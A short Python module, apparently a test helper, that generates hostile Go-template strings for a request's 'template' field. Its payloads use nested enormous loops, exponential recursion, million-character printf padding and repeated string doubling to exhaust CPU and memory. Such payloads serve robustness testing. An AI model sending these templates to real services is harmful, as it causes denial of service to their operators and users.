"""Templates that are meant to do harm, as `template` of a request; no two alike."""

import json
from typing import Final

_GROWING: Final = '{{ $a := "aaaaaaaa" }}{{ range 60 }}{{ $a = STEP }}{{ end }}{{ $a }}'
_ATTACKS: Final = (
    "{{ range 99999999 }}{{ range 99999999 }}{{ end }}{{ end }}",
    '{{ define "f" }}{{ if . }}{{ template "f" (slice . 1) }}{{ template "f" (slice . 1) }}'
    '{{ end }}{{ end }}{{ template "f" "' + "a" * 60 + '" }}',
    '{{ range 9999 }}{{ $x := printf "%1000000s" "a" }}{{ end }}',
    '{{ $a := printf "%1000000d" 1 }}{{ range 99 }}{{ $a }}{{ end }}',
    _GROWING.replace("STEP", 'printf "%s%s" $a $a'),
    _GROWING.replace("STEP", "js $a $a"),
    _GROWING.replace("STEP", 'printf "%q" $a'),
)


def attack(number: int) -> bytes:
    """A template that takes all that it is given; one kind after the other."""
    template = _ATTACKS[number % len(_ATTACKS)]
    return json.dumps(f"{template}{{{{/* {number} */}}}}{{{{ .Prompt }}}}").encode()
